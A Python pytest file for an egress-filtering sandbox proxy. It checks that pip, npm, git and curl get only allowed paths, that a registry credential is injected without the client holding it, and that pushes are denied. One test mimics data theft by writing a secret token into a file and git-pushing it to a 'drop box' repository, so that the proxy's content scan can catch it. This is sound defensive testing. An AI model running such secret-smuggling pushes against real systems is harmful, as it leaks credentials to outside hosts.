"""Ordinary clients, unmodified, at a host of ours whose TLS ends in the proxy: pip, npm, git and curl."""

import hashlib
import io
import json
import os
import shutil
import ssl
import subprocess
import tarfile
import threading
import zipfile
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from sandboxed import RUN, Room
from world import certificate

from ringfence.domain.boundary import NetworkRule
from ringfence.domain.events import GrantAsked, GrantMinted, GrantRevoked, GrantUsed, from_json
from ringfence.domain.network_section import HostCredential

HOST = "packages.example.internal"
TOKEN = "rft-7Kq2vXw9LmPz4TbN"


def _wheel() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("tiny.py", "VALUE = 2\n")
        archive.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
        archive.writestr("tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr("tiny-1.0.dist-info/RECORD", "tiny.py,,\n")
    return made.getvalue()


def _tarball() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, content in (
            ("index.js", b"module.exports = 2\n"),
            ("package.json", b'{"name":"@acme/tiny","version":"1.0.0"}'),
        ):
            member = tarfile.TarInfo(f"package/{name}")
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return made.getvalue()


class Pages(BaseHTTPRequestHandler):
    """A registry for pip and npm, and a git host; below /private only with the token."""

    protocol_version = "HTTP/1.1"
    pages: ClassVar[dict[str, tuple[str, bytes]]] = {}
    asked: ClassVar[list[tuple[str, str, str]]] = []
    repositories: ClassVar[str] = ""

    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        self.asked.append((self.command, self.path, self.headers.get("authorization", "")))
        if path.startswith("/private/") and self.headers.get("authorization") != f"Bearer {TOKEN}":
            self.answer(401, "text/plain", b"who are you?\n")
        elif path.startswith("/git/"):
            self.git(path)
        elif path in self.pages:
            self.answer(200, *self.pages[path])
        else:
            self.answer(404, "text/plain", b"nothing here\n")

    do_POST = do_PUT = do_GET

    def answer(self, status: int, kind: str, content: bytes) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)
        del body

    def git(self, path: str) -> None:
        chunked = self.headers.get("transfer-encoding") == "chunked"
        body = self.chunks() if chunked else self.rfile.read(int(self.headers.get("content-length") or 0))
        named = {
            "content-type": "CONTENT_TYPE",
            "content-encoding": "HTTP_CONTENT_ENCODING",
            "git-protocol": "GIT_PROTOCOL",
        }
        environment = {
            "PATH": os.defpath, "GIT_PROJECT_ROOT": self.repositories, "GIT_HTTP_EXPORT_ALL": "1", "REMOTE_USER": "x",
            "PATH_INFO": path.removeprefix("/git"), "QUERY_STRING": self.path.partition("?")[2],
            "REQUEST_METHOD": self.command, "CONTENT_LENGTH": str(len(body)), "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*",
            **{variable: self.headers[name] for name, variable in named.items() if self.headers.get(name)},
        }  # fmt: skip
        made = subprocess.run(["git", "http-backend"], input=body, capture_output=True, env=environment, check=True)
        head, _, content = made.stdout.partition(b"\r\n\r\n")
        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
        self.send_response(int(fields.pop("Status", "200 OK").split()[0]))
        for name, value in {**fields, "content-length": str(len(content))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def chunks(self) -> bytes:
        body = b""
        while size := int(self.rfile.readline(), 16):
            body += self.rfile.read(size)
            self.rfile.readline()
        self.rfile.readline()
        return body

    def log_message(self, *_: object) -> None:
        return


@dataclass
class Site:
    """The server, and the room in which a client is tried."""

    room: Room
    port: int
    asked: list[tuple[str, str, str]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"https://{HOST}:{self.port}"

    def rule(self, *paths: str, methods: tuple[str, ...] = (), put: bool = False) -> NetworkRule:
        return NetworkRule(
            host=HOST, port=self.port, purpose="registry", cidrs=("127.0.0.1/32",), inspect=True, paths=paths,
            methods=methods,  # type: ignore[arg-type]
            credential=HostCredential(secret="registry-read", scheme="bearer") if put else None,
        )  # fmt: skip

    def run(self, *argv: str, rules: tuple[NetworkRule, ...], **more: dict[str, str]) -> tuple[int | None, str]:
        return self.room.run(*argv, rules=rules, secrets={"registry-read": TOKEN}, **more)

    def outcomes(self) -> set[tuple[str, str, str, str]]:
        decided = [one for one in self.room.decided() if one.method != "CONNECT"]
        return {(one.method, one.path, one.decision, one.credential) for one in decided}


@pytest.fixture
def site(room: Room, tmp_path: Path) -> Iterator[Site]:
    authority, chain = certificate(tmp_path, (HOST,))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(chain)
    served = type("Served", (Pages,), {"asked": [], "repositories": str(tmp_path / "repositories"), "pages": {}})
    with ThreadingHTTPServer(("127.0.0.1", 0), served) as server:
        server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
        thread = threading.Thread(target=server.serve_forever, args=(0.1,))
        thread.start()
        room.bundle, room.names = authority, {HOST: ("127.0.0.1",)}
        made = Site(room, server.server_address[1], served.asked)
        wheel, tarball = _wheel(), _tarball()
        digest = hashlib.sha256(wheel).hexdigest()
        page = f'<a href="/private/files/tiny-1.0-py3-none-any.whl#sha256={digest}">tiny-1.0-py3-none-any.whl</a>'
        package = {"name": "@acme/tiny", "version": "1.0.0", "dist": {
            "tarball": f"{made.url}/private/@acme/tiny/-/tiny-1.0.0.tgz",
            "integrity": "sha512-" + b64encode(hashlib.sha512(tarball).digest()).decode()}}  # fmt: skip
        packument = {"name": "@acme/tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": package}}
        served.pages |= {
            "/private/simple/tiny/": ("text/html", page.encode()),
            "/private/files/tiny-1.0-py3-none-any.whl": ("application/zip", wheel),
            "/private/@acme%2ftiny": ("application/json", json.dumps(packument).encode()),
            "/private/@acme/tiny/-/tiny-1.0.0.tgz": ("application/octet-stream", tarball),
            "/open": ("text/plain", b"open\n"),
        }
        yield made
        server.shutdown()
        thread.join()


def test_pip_installs_from_a_private_index_with_a_credential_that_it_never_has(site: Site) -> None:
    rules = (site.rule("/private/simple/**", "/private/files/*", methods=("GET", "HEAD"), put=True),)
    install = ("python3", "-m", "pip", "install", "--no-deps", "--no-cache-dir", "--disable-pip-version-check",
               "--target", "/workspace/site", "--index-url", f"{site.url}/private/simple/", "tiny")  # fmt: skip
    code, output = site.run(*install, rules=rules)
    assert code == 0, output
    assert (site.room.tree / "site" / "tiny.py").read_text() == "VALUE = 2\n"
    assert {what[2] for what in site.asked} == {f"Bearer {TOKEN}"}
    assert {(path, credential) for _, path, _, credential in site.outcomes()} == {
        ("/private/simple/tiny/", "registry-read"),
        ("/private/files/tiny-1.0-py3-none-any.whl", "registry-read"),
    }
    grants = [from_json(record.event) for record in site.room.log.records(RUN)]
    kinds = [type(event) for event in grants if isinstance(event, GrantAsked | GrantMinted | GrantUsed | GrantRevoked)]
    assert kinds == [GrantAsked, GrantMinted, GrantUsed, GrantRevoked]
    assert next(event.uses for event in grants if isinstance(event, GrantRevoked)) == len(site.asked)
    assert TOKEN not in str(site.room.log.records(RUN))
    assert TOKEN not in output


def test_pip_is_refused_what_is_not_listed(site: Site) -> None:
    rules = (site.rule("/other/**", methods=("GET",)),)
    argv = ("python3", "-m", "pip", "download", "--no-deps", "--retries", "0", "--disable-pip-version-check",
            "-d", "/workspace", "--index-url", f"{site.url}/private/simple/", "tiny")  # fmt: skip
    code, output = site.run(*argv, rules=rules)
    assert code != 0
    assert "No matching distribution" in output
    assert site.asked == []
    assert {one[2] for one in site.outcomes()} == {"deny"}


def test_npm_installs_a_scoped_package_with_a_credential_that_it_never_has(site: Site) -> None:
    if shutil.which("npm") is None:
        pytest.skip("there is no npm on this machine")
    paths = ("/private/@acme*", "/private/@acme/**")
    install = (
        "npm",
        "install",
        "--no-audit",
        "--no-fund",
        "--no-update-notifier",
        "--registry",
        f"{site.url}/private/",
        "@acme/tiny@1.0.0",
    )
    code, output = site.run(*install, rules=(site.rule(*paths, methods=("GET",), put=True),))
    assert code == 0, output
    assert (site.room.tree / "node_modules" / "@acme" / "tiny" / "index.js").is_file()
    assert {what[2] for what in site.asked} == {f"Bearer {TOKEN}"}
    assert {path for _, path, decision, _ in site.outcomes() if decision == "allow"} == {what[1] for what in site.asked}


def test_git_clones_by_smart_http_and_may_not_push(site: Site, tmp_path: Path) -> None:
    bare = tmp_path / "repositories" / "acme" / "tiny.git"
    quiet = {"env": {"PATH": os.defpath, "HOME": str(tmp_path)}, "check": True, "capture_output": True}
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], **quiet)  # type: ignore[call-overload]
    subprocess.run(["git", "-C", str(bare), "config", "http.receivepack", "true"], **quiet)  # type: ignore[call-overload]
    script = (
        f"cd {tmp_path} && git init -q -b main work && cd work && echo 2 > value.txt && git add . && "
        f"git -c user.name=a -c user.email=a@example.internal commit -qm one && git push -q {bare} main"
    )
    subprocess.run(["sh", "-ec", script], **quiet)  # type: ignore[call-overload]
    paths = ("/git/acme/tiny.git/info/refs", "/git/acme/tiny.git/git-upload-pack")
    rules = (site.rule(*paths, methods=("GET", "POST")),)
    tried = (
        f"git clone -q {site.url}/git/acme/tiny.git got && cat got/value.txt && cd got && echo 3 > value.txt && "
        "git -c user.name=a -c user.email=a@example.internal commit -qam two && ! git push -q origin main"
    )
    code, output = site.run("sh", "-ec", tried, rules=rules, environment={"GIT_TERMINAL_PROMPT": "0"})
    assert code == 0, output
    assert output.startswith("2\n")
    assert "403" in output
    outcomes = {one[:3] for one in site.outcomes()}
    assert ("POST", "/git/acme/tiny.git/git-upload-pack", "allow") in outcomes
    assert ("POST", "/git/acme/tiny.git/git-receive-pack", "deny") in outcomes
    assert not any("receive-pack" in path for method, path, _ in site.asked if method == "POST")


def test_d22_a_push_to_an_allowed_repository_is_looked_into(site: Site, tmp_path: Path) -> None:
    """A git host as drop box: the secret travels deflated inside a pack, and is found in there."""
    bare = tmp_path / "repositories" / "acme" / "drop.git"
    quiet = {"env": {"PATH": os.defpath, "HOME": str(tmp_path)}, "check": True, "capture_output": True}
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], **quiet)  # type: ignore[call-overload]
    subprocess.run(["git", "-C", str(bare), "config", "http.receivepack", "true"], **quiet)  # type: ignore[call-overload]
    push = (
        "git init -q -b main drop && cd drop && {write} && git add . && git -c user.name=a "
        f"-c user.email=a@example.internal commit -qm one && git push -q {site.url}/git/acme/drop.git main:"
    )
    rules = (site.rule("/git/acme/drop.git/**", methods=("GET", "POST")),)
    code, output = site.run(
        "sh", "-ec", push.format(write="seq 1 2000 > a.txt") + "fine; rm -rf /workspace/drop", rules=rules
    )
    assert code == 0, output
    leaking = f"(seq 1 2000; echo {TOKEN}; seq 1 2000) > a.txt"
    code, output = site.run("sh", "-ec", push.format(write=leaking) + "leaks", rules=rules)
    assert code != 0
    refs = subprocess.run(["git", "-C", str(bare), "for-each-ref"], **quiet).stdout.decode()  # type: ignore[call-overload]
    assert "refs/heads/fine" in refs
    assert "leaks" not in refs
    assert "network.content_scan" in {one.rule for one in site.room.decided()}


def test_curl_sees_methods_and_paths_judged(site: Site) -> None:
    rules = (site.rule("/open", methods=("GET",)),)
    curl = ("curl", "-sS", "-o", "-", "-w", "%{http_code} %{http_version}\n", "--max-time", "60")
    code, output = site.run(*curl, f"{site.url}/open", f"{site.url}/open", f"{site.url}/private/x", rules=rules)
    assert code == 0, output
    assert output.count("open\n") == 2
    assert "200 1.1" in output
    assert "403" in output
    assert "ringfence: " in output, "the body of the refusal says why"
    code, output = site.run(*curl, "-X", "DELETE", f"{site.url}/open", rules=rules)
    assert "403" in output
    code, output = site.run(*curl, "-u", "me:secret", f"{site.url}/open", rules=rules)
    assert "403" in output
    assert [what[:2] for what in site.asked] == [("GET", "/open")] * 2
